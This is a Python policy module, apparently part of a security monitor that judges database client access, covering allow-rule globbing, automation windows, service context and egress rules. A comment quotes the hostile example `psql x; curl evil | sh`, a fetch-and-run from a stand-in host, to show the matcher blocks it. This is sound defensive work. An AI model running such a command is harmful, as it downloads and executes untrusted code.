"""Policy decisions shared by the extension and the correlator: pure functions.

Who is an admin, when automation is expected, which allow rule (and egress
allow rule) matches, what
service context a process has and whether it runs under a web or database
server. Inputs are plain values (names, paths, timestamps), never /proc or logs.
"""

from __future__ import annotations

import fnmatch
import ipaddress
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime
from functools import lru_cache
from zoneinfo import ZoneInfo

from . import catalog
from .cmdline import basename
from .config import AllowRule, AutomationWindow, Config, EgressAllowRule


@dataclass(frozen=True)
class Ancestor:
    """One process above the one we judge, nearest first."""

    name: str  # comm or basename of the executable
    path: str = ""
    cmdline: str = ""


# ---------------------------------------------------------------------------
# Users


def is_admin(config: Config, user: str, groups: Iterable[str] = ()) -> bool:
    if user and user in config.admin_users:
        return True
    return any(group in config.admin_groups for group in groups)


def is_service_account(config: Config, user: str) -> bool:
    return bool(user) and user in config.service_accounts


def is_web_account(user: str) -> bool:
    return user in catalog.WEB_ACCOUNTS


# ---------------------------------------------------------------------------
# Automation windows


def _window_applies(window: AutomationWindow, user: str, host: str) -> bool:
    if window.users and user not in window.users:
        return False
    return not window.hosts or any(fnmatch.fnmatchcase(host, pattern) for pattern in window.hosts)


@lru_cache(maxsize=64)
def _zone(name: str) -> ZoneInfo:
    return ZoneInfo(name)


def _inside(window: AutomationWindow, epoch_seconds: float) -> bool:
    local = datetime.fromtimestamp(epoch_seconds, tz=UTC).astimezone(_zone(window.tz))
    minute = local.hour * 60 + local.minute
    day = local.weekday()
    if window.start_minute < window.end_minute:
        return day in window.days and window.start_minute <= minute < window.end_minute
    # Crosses midnight: the part after midnight belongs to the day it started.
    if minute >= window.start_minute:
        return day in window.days
    if minute < window.end_minute:
        return (day - 1) % 7 in window.days
    return False


def windows_for(config: Config, user: str, host: str) -> tuple[AutomationWindow, ...]:
    """The automation windows that name this user or host (or everyone)."""
    return tuple(w for w in config.automation_windows if _window_applies(w, user, host))


def in_automation_window(config: Config, epoch_seconds: float, user: str, host: str) -> bool:
    return any(_inside(w, epoch_seconds) for w in windows_for(config, user, host))


def automation_window_ok(config: Config, epoch_seconds: float, user: str, host: str) -> bool:
    """True unless windows name this user or host and the time falls outside all of them.

    Contract section 4: a service context makes an access expected "where
    automation_windows name that user or host, [when it] falls inside one of them".
    """
    applicable = windows_for(config, user, host)
    if not applicable:
        return True
    return any(_inside(w, epoch_seconds) for w in applicable)


# ---------------------------------------------------------------------------
# Allow rules

# Characters a shell treats as command separators, substitutions or
# redirections: a `*` in an allow rule never matches across them, so
# `psql * -c \copy *` cannot allow `psql x; curl evil | sh`.
_SHELL_META = ";|&$`()<>\n\r"


_META_SPLIT = re.compile("([" + re.escape(_SHELL_META) + "])")


@lru_cache(maxsize=512)
def _glob_pieces(segment: str) -> tuple[re.Pattern[str], ...]:
    """The `*`-separated pieces of a glob segment, `?` as any one character."""
    return tuple(
        re.compile("".join("." if char == "?" else re.escape(char) for char in piece), re.DOTALL)
        for piece in segment.split("*")
    )


def _segment_match(segment: str, text: str) -> bool:
    """Glob match of one segment free of shell metacharacters.

    Leftmost placement of each literal piece is optimal for `*`, so this is a
    few linear searches: a backtracking regex (`[^;|...]*x[^;|...]*y...`) takes
    seconds to minutes on a crafted 100 KB command line.
    """
    pieces = _glob_pieces(segment)
    if len(pieces) == 1:
        return pieces[0].fullmatch(text) is not None
    first, *middle, last = pieces
    width_first = len(segment.split("*", 1)[0])
    width_last = len(segment.rsplit("*", 1)[1])
    if width_first + width_last > len(text):
        return False
    if first.match(text) is None or last.fullmatch(text, len(text) - width_last) is None:
        return False
    pos, end = width_first, len(text) - width_last
    for piece in middle:
        found = piece.search(text, pos, end)
        if found is None:
            return False
        pos = found.end()
    return True


def glob_match(glob: str, text: str) -> bool:
    """Whole-string glob match where wildcards never span shell metacharacters.

    Wildcards cannot produce a metacharacter, so the metacharacters of glob and
    text must be the same sequence, and the segments between them match one by one.
    """
    glob_parts = _META_SPLIT.split(glob)
    text_parts = _META_SPLIT.split(text)
    if len(glob_parts) != len(text_parts):
        return False
    for index, (glob_part, text_part) in enumerate(zip(glob_parts, text_parts)):
        if index % 2:
            if glob_part != text_part:
                return False
        elif not _segment_match(glob_part, text_part):
            return False
    return True


@dataclass(frozen=True)
class AccessFacts:
    """What an allow rule can be matched against."""

    user: str
    tool: str  # basename of the DB tool
    parent_path: str
    host: str
    cmdline: str


def allow_rule_matches(rule: AllowRule, facts: AccessFacts) -> bool:
    """Every field the rule gives must match."""
    if rule.user is not None and not fnmatch.fnmatchcase(facts.user, rule.user):
        return False
    if rule.tool is not None and rule.tool != facts.tool and rule.tool != basename(facts.tool):
        return False
    if rule.parent is not None and not (
        glob_match(rule.parent, facts.parent_path) or (("/" not in rule.parent) and glob_match(rule.parent, basename(facts.parent_path)))
    ):
        return False
    if rule.host is not None and not fnmatch.fnmatchcase(facts.host, rule.host):
        return False
    return rule.cmdline is None or glob_match(rule.cmdline, facts.cmdline)


def matching_allow_rule(config: Config, facts: AccessFacts) -> AllowRule | None:
    for rule in config.allow:
        if allow_rule_matches(rule, facts):
            return rule
    return None


# ---------------------------------------------------------------------------
# Service context and server parents


@dataclass(frozen=True)
class ServiceContext:
    kind: str  # "cron", "automation", "systemd", "service-account", "none"
    detail: str = ""

    @property
    def known(self) -> bool:
        return self.kind != "none"

    def __str__(self) -> str:
        return f"{self.kind}:{self.detail}" if self.detail else self.kind


NO_SERVICE_CONTEXT = ServiceContext("none")
# systemd units that are sessions, not services.
_SESSION_UNIT = re.compile(r"^(session-\d+\.scope|user@\d+\.service|init\.scope|-\.slice|.*\.slice)$")
# Anything below these is a person's: their login session, or the per-user
# manager whose units (`systemd-run --user psql`) the user starts at will.
_PERSONAL_COMPONENT = re.compile(r"^(?:session-[^/]*\.scope|user@\d+\.service|user-\d+\.slice)$")
# Units that hold logins when pam_systemd does not move them into a session
# scope (containers, UsePAM no): an SSH shell living in ssh.service is a person.
_LOGIN_UNIT = re.compile(r"^(?:ssh|sshd|dropbear|telnet|rlogin|(?:serial-|container-|console-)?getty(?:@.*)?|autovt@.*|systemd-logind)\.service$")


def _is_interpreter(name: str) -> bool:
    # python3.11 -> python3 -> python; perl5.36 -> perl
    bare = name.rstrip("0123456789.")  # linear, unlike re.sub(r"[\d.]+$") on a crafted name
    return name in catalog.INTERPRETERS or bare in catalog.INTERPRETERS


def interpreter_script(ancestor: Ancestor) -> str:
    """The script an interpreter runs (`python3 /usr/bin/ansible-playbook` -> its path), or "".

    Only the script position counts: any other argument is the attacker's to
    choose (`python3 x.py cron` must not look like cron).
    """
    tokens = ancestor.cmdline.split()
    if not tokens:
        return ""
    if not (_is_interpreter(basename(tokens[0])) or _is_interpreter(ancestor.name) or _is_interpreter(basename(ancestor.path))):
        return ""
    i = 1
    while i < len(tokens):
        tok = tokens[i]
        if tok in ("-m", "-jar", "-cp", "-classpath", "--class-path"):
            return tokens[i + 1] if i + 1 < len(tokens) else ""
        if tok in ("-c", "-e", "-E", "-r"):  # inline code: there is no script
            return ""
        if tok.startswith("-"):
            i += 1
            continue
        return tok
    return ""


def _ancestor_names(ancestor: Ancestor) -> tuple[str, ...]:
    names = [ancestor.name]
    if ancestor.path:
        names.append(basename(ancestor.path))
    if ancestor.cmdline:
        names.append(basename(ancestor.cmdline.split(" ", 1)[0]))
        # interpreters: `python3 /usr/bin/ansible-playbook`, `java -jar agent.jar`
        names.append(basename(interpreter_script(ancestor)))
    return tuple(n for n in names if n)


def service_context(
    config: Config,
    user: str,
    ancestors: Sequence[Ancestor],
    systemd_unit: str = "",
) -> ServiceContext:
    """The known service context of a process, or NO_SERVICE_CONTEXT.

    `ancestors` are nearest first and should stop before pid 1 (pid 1 itself
    does not count). `systemd_unit` is the unit from /proc/PID/cgroup, if any.
    """
    if is_service_account(config, user):
        return ServiceContext("service-account", user)
    for ancestor in ancestors:
        names = _ancestor_names(ancestor)
        if any(catalog.is_cron(n) for n in names):
            return ServiceContext("cron", ancestor.name)
        agent = next((n for n in names if catalog.is_automation_agent(n)), "")
        if agent:
            return ServiceContext("automation", agent)
    # Pass the whole cgroup path where possible: only then can units of a
    # person's own manager (user@1000.service/app.slice/x.service, which
    # `systemd-run --user` creates at will) be told from system services.
    components = [c for c in systemd_unit.split("/") if c]
    if any(_PERSONAL_COMPONENT.match(c) for c in components[:-1]):
        return NO_SERVICE_CONTEXT
    # Only a .service is a service: a .scope wraps processes started from outside
    # (login sessions, containers such as docker-ID.scope, `systemd-run --scope`).
    services = [c for c in components if c.endswith(".service")]
    unit = services[-1] if services else ""
    if unit and not _SESSION_UNIT.match(unit) and not _LOGIN_UNIT.match(unit):
        unit_name = unit.removesuffix(".service")
        if unit.startswith(("cron", "crond", "anacron")):
            return ServiceContext("cron", unit)
        if not _server_unit(unit_name):
            return ServiceContext("systemd", unit)
    return NO_SERVICE_CONTEXT


def _server_unit(unit_name: str) -> bool:
    """A web or database server's unit, also by a word of its name (`shop-uwsgi`, `postgresql@15-main`)."""
    if catalog.is_web_server(unit_name) or catalog.is_db_server(unit_name) or unit_name.startswith(
        catalog.SERVER_UNIT_PREFIXES
    ):
        return True
    words = [w for w in re.split(r"[-_.@]", unit_name) if w]
    return any(catalog.is_web_server(w) or catalog.is_db_server(w) or w.startswith("php") for w in words)


def server_ancestor(ancestors: Sequence[Ancestor], depth: int = 2) -> Ancestor | None:
    """A web or database server among the nearest `depth` ancestors (parent, grandparent)."""
    for ancestor in ancestors[:depth]:
        names = (ancestor.name, basename(ancestor.path))
        if any(catalog.is_web_server(n) or catalog.is_db_server(n) for n in names if n):
            return ancestor
    return None


def interactive(tty: str, ancestors: Sequence[Ancestor]) -> bool:
    """A person at a keyboard: a terminal, or a login daemon among the ancestors."""
    if tty and tty not in ("?", "none", ""):
        return True
    return any(a.name in catalog.LOGIN_ANCESTORS or basename(a.path) in catalog.LOGIN_ANCESTORS for a in ancestors)


def unusual_parent(ancestor: Ancestor | None) -> str:
    """Why a parent is unusual for a DB client ("" when it is not)."""
    if ancestor is None:
        return ""
    path = ancestor.path
    name = ancestor.name or basename(path)
    if catalog.is_web_server(name) or catalog.is_web_server(basename(path)):
        return "web-server-parent"
    if catalog.is_db_server(name) or catalog.is_db_server(basename(path)):
        return "db-server-parent"
    if path.startswith(catalog.STAGING_DIRS):
        return "parent-in-staging-dir"
    if basename(path).startswith(".") or name.startswith("."):
        return "hidden-parent"
    # `python3 /tmp/x.py`, `perl /dev/shm/.p`: the interpreter is a system
    # binary, the code it runs is what is staged or hidden.
    script = interpreter_script(ancestor)
    if script.startswith(catalog.STAGING_DIRS):
        return "parent-in-staging-dir"
    if basename(script).startswith("."):
        return "hidden-parent"
    return ""


# ---------------------------------------------------------------------------
# Networks


def is_external_address(config: Config, address: str) -> bool:
    """True for a routable address outside loopback, link-local and internal_networks."""
    text = address.strip()
    # tolerate the forms peers arrive in: [v6], [v6]:port, v4:port, v6%scope
    if text.startswith("["):
        text = text[1:].split("]", 1)[0]
    elif text.count(":") == 1 and "." in text:
        text = text.split(":", 1)[0]
    try:
        ip = ipaddress.ip_address(text.split("%", 1)[0])
    except ValueError:
        return False
    if isinstance(ip, ipaddress.IPv6Address) and ip.ipv4_mapped is not None:
        ip = ip.ipv4_mapped
    if ip.is_loopback or ip.is_link_local or ip.is_unspecified or ip.is_multicast or ip.is_reserved:
        return False
    return not any(ip in network for network in config.internal_networks)


def _ip(address: str) -> ipaddress.IPv4Address | ipaddress.IPv6Address | None:
    text = address.strip().strip("[]").split("%", 1)[0]
    try:
        ip = ipaddress.ip_address(text)
    except ValueError:
        return None
    if isinstance(ip, ipaddress.IPv6Address) and ip.ipv4_mapped is not None:
        return ip.ipv4_mapped
    return ip


def egress_allow_matches(rule: EgressAllowRule, address: str, port: int | None, user: str, host: str, tool: str) -> bool:
    """Every field the rule gives must match. A network matches an address; a name glob a host name (an upload's
    destination), case-insensitively; a rule's port needs the egress to name that port."""
    if rule.port is not None and port != rule.port:
        return False
    if rule.user is not None and not fnmatch.fnmatchcase(user, rule.user):
        return False
    if rule.host is not None and not fnmatch.fnmatchcase(host, rule.host):
        return False
    if rule.tool is not None and rule.tool != tool:
        return False
    ip = _ip(address)
    if rule.network is not None:
        return ip is not None and ip.version == rule.network.version and ip in rule.network
    return ip is None and fnmatch.fnmatchcase(address.strip().rstrip(".").lower(), rule.destination)


def matching_egress_allow(config: Config, address: str, port: int | None, user: str, host: str,
                          tool: str) -> EgressAllowRule | None:
    """The first egress_allow rule naming this destination for this user, host and tool, or None."""
    for rule in config.egress_allow:
        if egress_allow_matches(rule, address, port, user, host, tool):
            return rule
    return None
